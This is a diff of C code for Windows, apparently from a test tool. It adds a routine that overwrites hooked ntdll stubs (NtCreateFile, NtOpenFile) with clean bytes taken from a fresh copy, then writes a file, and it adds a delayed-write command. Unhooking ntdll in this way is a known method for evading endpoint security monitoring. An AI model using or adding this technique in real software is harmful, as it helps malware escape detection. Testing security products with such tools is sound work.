@@ -281,20 +281,31 @@ static size_t stub_at(const char *name)
                     (unsigned char *)(void *)ntdll);
 }
 
+bool take_hook_away(const char *name)
+{
+    const unsigned char *image = fresh_ntdll();
+    unsigned char *ntdll = (unsigned char *)(void *)GetModuleHandleW(L"ntdll.dll");
+    size_t at = stub_at(name);
+    DWORD before;
+    if (!image || !VirtualProtect(ntdll + at, 32, PAGE_EXECUTE_READWRITE, &before))
+        return false;
+    memcpy(ntdll + at, image + at, 32);
+    return VirtualProtect(ntdll + at, 32, before, &before);
+}
+
 /* unhook PATH: the stubs as the file on disk has them, then a plain write. */
 int do_unhook(void)
 {
-    static const char *const names[] = {"NtCreateFile", "NtOpenFile"};
-    const unsigned char *image = fresh_ntdll();
-    unsigned char *ntdll = (unsigned char *)(void *)GetModuleHandleW(L"ntdll.dll");
-    DWORD before;
-    for (size_t i = 0; image && i < 2; i++) {
-        size_t at = stub_at(names[i]);
-        VirtualProtect(ntdll + at, 32, PAGE_EXECUTE_READWRITE, &before);
-        memcpy(ntdll + at, image + at, 32);
-        VirtualProtect(ntdll + at, 32, before, &before);
-    }
-    return image ? put(word(0), GENERIC_WRITE) : 2;
+    return take_hook_away("NtCreateFile") && take_hook_away("NtOpenFile")
+               ? put(word(0), GENERIC_WRITE)
+               : 2;
+}
+
+/* late-write MS PATH. */
+int do_late_write(void)
+{
+    Sleep((DWORD)_wtoi(word(0)));
+    return put(word(1), GENERIC_WRITE);
 }
 
 /* fresh PATH: a second ntdll, mapped and called. */
